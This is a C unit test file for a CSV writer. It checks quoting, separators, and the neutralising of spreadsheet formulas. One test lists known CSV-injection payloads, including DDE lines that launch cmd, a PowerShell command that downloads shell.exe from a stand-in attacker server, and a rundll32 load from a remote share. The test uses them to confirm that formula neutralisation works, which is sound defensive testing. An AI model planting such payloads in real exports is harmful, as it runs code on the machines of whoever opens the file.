/* SPDX-License-Identifier: MIT */
#include "csv_help.h"

static const char *written(
    struct csv_case *c, struct csv_writer w, const char *const *cells, size_t count)
{
    struct sb b = sb_on(c->a);
    struct sink to = sink_memory(&b);
    w.to = &to;
    assert_int_equal(csv_write_row(&w, cells, count, &c->err), HUB_OK);
    return sb_str(&b);
}

static const char *one(struct csv_case *c, const char *text)
{
    const char *cells[] = {text, "x"};
    return written(c, (struct csv_writer){.formulas_as_text = true}, cells, 2);
}

static void only_cells_that_need_it_are_quoted(void **state)
{
    struct csv_case *c = *state;
    const char *cells[] = {"Dunn", "a,b", "say \"yes\"", "two\nlines", " edge", "", NULL};
    assert_string_equal(written(c, (struct csv_writer){0}, cells, 7),
        "Dunn,\"a,b\",\"say \"\"yes\"\"\",\"two\nlines\",\" edge\",,\n");
}

static void the_separator_and_the_mark_can_be_chosen(void **state)
{
    struct csv_case *c = *state;
    const char *cells[] = {"Dunn", "1,5"};
    assert_string_equal(written(c, (struct csv_writer){.separator = ';', .bom = true}, cells, 2),
        "\xEF\xBB\xBF"
        "Dunn;\"1,5\"\n");
}

static void formulas_are_written_as_text(void **state)
{
    struct csv_case *c = *state;
    assert_string_equal(one(c, "=1+1"), "'=1+1,x\n");
    assert_string_equal(one(c, "@SUM(A1)"), "'@SUM(A1),x\n");
    assert_string_equal(one(c, "+44 7700 900123"), "'+44 7700 900123,x\n");
    assert_string_equal(one(c, "- no nuts"), "'- no nuts,x\n");
    assert_string_equal(one(c, "  =A1"), "\"'  =A1\",x\n");
    assert_string_equal(one(c, "\tx"), "\"'\tx\",x\n");
    assert_string_equal(one(c, "＝1"), "'＝1,x\n");
    assert_string_equal(one(c, "'=1"), "''=1,x\n");
}

static void names_and_numbers_stay_as_they_are(void **state)
{
    struct csv_case *c = *state;
    assert_string_equal(one(c, "-5"), "-5,x\n");
    assert_string_equal(one(c, "-2.50"), "-2.50,x\n");
    assert_string_equal(one(c, "'t Hooft"), "'t Hooft,x\n");
    assert_string_equal(one(c, "O'Dea"), "O'Dea,x\n");
    const char *cells[] = {"=1+1"};
    assert_string_equal(written(c, (struct csv_writer){0}, cells, 1), "=1+1\n");
}

/* Payloads of payloadbox/csv-injection-payloads (MIT). */
static void known_attacks_are_harmless_and_come_back(void **state)
{
    struct csv_case *c = *state;
    static const char *const payloads[] = {
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
        "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=10+20+cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
        "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
        "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    };
    for (size_t i = 0; i < sizeof payloads / sizeof *payloads; i++) {
        const char *row = one(c, payloads[i]);
        assert_null(strchr("=+-@", row[row[0] == '"']));
        const char *text = arena_printf(c->a, "note,other\n%s", row);
        assert_int_equal(read_bytes(c, text, strlen(text)), HUB_OK);
        assert_int_equal(c->faults.count, 0);
        assert_string_equal(cell(c, 0, 0), payloads[i]);
    }
}

static void a_preview_shows_the_table_as_understood(void **state)
{
    struct csv_case *c = *state;
    struct sb b = sb_on(c->a);
    struct sink to = sink_memory(&b);
    assert_int_equal(READ(c, "Title;\n\"a\";b c\n1;\"x, y\"\n2;3;4\n'=5;6\n"), HUB_OK);
    assert_int_equal(csv_write_preview(&c->t, &to, &c->err), HUB_OK);
    assert_string_equal(sb_str(&b), "a,b c\n1,\"x, y\"\n=5,6\n");
}

static void a_long_cell_is_written_whole(void **state)
{
    struct csv_case *c = *state;
    char *text = arena_alloc(c->a, 20001);
    memset(text, '"', 10000);
    memset(text + 10000, 'z', 10000);
    const char *row = one(c, text);
    assert_int_equal(strlen(row), 2 + 20000 + 10000 + 3);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        CSV_TEST(only_cells_that_need_it_are_quoted),
        CSV_TEST(the_separator_and_the_mark_can_be_chosen),
        CSV_TEST(formulas_are_written_as_text),
        CSV_TEST(names_and_numbers_stay_as_they_are),
        CSV_TEST(known_attacks_are_harmless_and_come_back),
        CSV_TEST(a_preview_shows_the_table_as_understood),
        CSV_TEST(a_long_cell_is_written_whole),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
